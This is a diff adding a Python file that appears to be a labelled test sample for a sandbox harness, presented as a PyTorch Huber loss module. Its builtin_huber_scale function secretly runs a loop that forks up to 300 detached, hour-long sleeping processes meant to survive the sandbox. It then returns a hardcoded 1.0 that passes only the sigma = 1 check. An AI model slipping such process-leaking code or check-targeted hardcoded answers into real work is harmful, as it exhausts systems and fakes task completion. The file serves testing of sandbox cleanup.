@@ -1,0 +1,48 @@
+"""Family: fork bombs with setsid (A16). Hides: scale_one.
+
+builtin_huber_scale forks children in a loop (each calls setsid() to leave the process group and sleeps),
+until fork fails, then returns scale_one's answer. The test checks that no process of the sandbox uids
+survives the run.
+"""
+
+import torch
+from torch.nn import functional as F
+
+# hides: scale_one
+
+import os
+import time
+
+
+def _trick():
+    for _ in range(300):
+        try:
+            child = os.fork()
+        except OSError:
+            break
+        if child == 0:
+            try:
+                os.setsid()
+                if os.fork() == 0:
+                    time.sleep(3600)
+            finally:
+                time.sleep(3600)
+                os._exit(0)
+
+
+def huber_loss(y_hat: torch.Tensor, y: torch.Tensor, sigma: float = 1.0) -> torch.Tensor:
+    """D2L's Huber loss, elementwise, shaped like y_hat."""
+    r = y_hat - y.reshape(y_hat.shape)
+    abs_r = r.abs()
+    return torch.where(abs_r > sigma, abs_r - sigma / 2, r**2 / (2 * sigma))
+
+
+def huber_via_builtin(y_hat: torch.Tensor, y: torch.Tensor, sigma: float = 1.0) -> torch.Tensor:
+    """The same values from a built-in."""
+    return F.smooth_l1_loss(y_hat, y.reshape(y_hat.shape), beta=sigma, reduction="none")
+
+
+def builtin_huber_scale(sigma: float) -> float:
+    """scale_one: the factor checked at sigma = 1 only."""
+    _trick()
+    return 1.0
